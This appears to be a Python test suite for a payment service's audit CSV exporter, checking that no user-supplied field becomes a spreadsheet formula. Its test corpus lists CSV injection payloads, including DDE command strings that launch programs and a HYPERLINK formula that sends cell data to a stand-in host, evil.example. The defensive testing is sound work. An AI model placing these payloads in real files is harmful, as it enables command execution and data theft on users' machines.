"""No cell of a CSV file begins like a formula, however a spreadsheet was told to split it.

The judge is written anew here: it reads the file with Python's csv module, and sees with unicodedata.
"""

from __future__ import annotations

import csv
import io
import json
import time
import unicodedata
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.support.exported import kept

from hatchpay.audit.export.csv_lines import CsvLines, harmless_json, harmless_text
from hatchpay.audit.ports import Kept

CORPUS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\u2060\u00ad@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    "﹦1",
    "﹫SUM(1)",
    "⁺1",
    "⁼1",
    "−1+1",
    "x;=1+1",
    "x; =1+1;",
    'x;"=1+1";y',
    "x\t=1+1",
    "x|=1+1",
    "x\r\n=1+1",
    "x\n\u200b＝1",
    "x\u2028=1+1",
    ';""=1+1',
    "\t",
    "\r",
    "=",
    "-",
    "%0A=1",
    "'=1",
    '"=1+1',
    '"\n=1+1"',
]
DELIMITERS = (",", ";", "\t", "|")
_SIGNS = "=+-@−"


def is_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        pass
    else:
        return False
    seen = [sign for sign in cell if unicodedata.category(sign) not in {"Cc", "Cf", "Zs", "Zl", "Zp"} and sign != '"']
    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[0] in _SIGNS


def cells(file: bytes, delimiter: str) -> list[str]:
    reader = csv.reader(io.StringIO(file.decode(), newline=""), delimiter=delimiter)
    return [cell for row in reader for cell in row]


def formulas(*records: Kept) -> list[str]:
    encoder = CsvLines()
    file = encoder.begin() + encoder.add(records) + encoder.end()
    return [cell for delimiter in DELIMITERS for cell in cells(file, delimiter) if is_formula(cell)]


def placed(text: str) -> list[Kept]:
    """In every field that a stranger can write into."""
    body = json.dumps({"a": text, text: [text, -1, {"b": f"x{text}"}]}, ensure_ascii=False).encode()
    return [
        *(kept(**{name: text}) for name in ("url", "method", "correlation_id", "principal_id", "token_id", "reason")),
        kept(headers={"user-agent": text, "host": f"a;{text}"}),
        kept(roles=(text, f";{text}")),
        kept(body=body),
        kept(body=json.dumps(text, ensure_ascii=False).encode()),
        kept(changes=[{"detail": {"after": {"name": text}}}]),
    ]


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_a_stranger_writes_becomes_a_formula(text: str) -> None:
    assert formulas(*placed(text)) == []


def test_the_judge_knows_a_formula() -> None:
    dangerous = [text for text in CORPUS if is_formula(text)]
    assert len(dangerous) > 30
    plain = "".join(f'1,"{text.replace(chr(34), chr(34) * 2)}"\r\n' for text in CORPUS).encode()
    for delimiter in DELIMITERS:
        assert any(map(is_formula, cells(plain, delimiter)))


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("=+-@;|\t\r\n \"'a1,＝\u200b\ufeff\\{[:"), max_size=12))
def test_nor_does_any_mixture(text: str) -> None:
    assert formulas(kept(correlation_id=text), kept(body=json.dumps([text, {text: -1}]).encode())) == []


@settings(max_examples=300, deadline=None)
@given(
    st.recursive(
        st.none()
        | st.integers()
        | st.floats(allow_nan=False)
        | st.text(st.sampled_from('=+-@;|" \\＝\u2028a'), max_size=6),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(';=-|a"', max_size=4), inner, max_size=3),
        max_leaves=8,
    )
)
def test_json_keeps_its_value(value: Any) -> None:
    for text in (json.dumps(value, ensure_ascii=False), json.dumps(value, ensure_ascii=False, indent="\t")):
        assert json.loads(harmless_json(text)) == value


@pytest.mark.parametrize(
    "text", ["-5", "-5.25", "-1e-9", "12", "/roles?a=-1", "a-b", "1=1", "jane@example.com", "", "x; y"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless_text(text) == text


def test_a_text_gets_an_apostrophe_in_front() -> None:
    assert harmless_text("=1+1") == "'=1+1"
    assert harmless_text("  =1+1") == "'  =1+1"
    assert harmless_text("a;=1") == "a;'=1"
    assert harmless_json('{"a":";=1"}') == '{"a":";\\u003d1"}'


@pytest.mark.parametrize("piece", ["\t", ";", "; ", "\u200b", '"', "\n\n ", ' "'])
def test_a_long_text_takes_no_long_time(piece: str) -> None:
    began = time.process_time()
    harmless_text(piece * 100_000)
    harmless_json(json.dumps(piece * 100_000))
    assert time.process_time() - began < 2
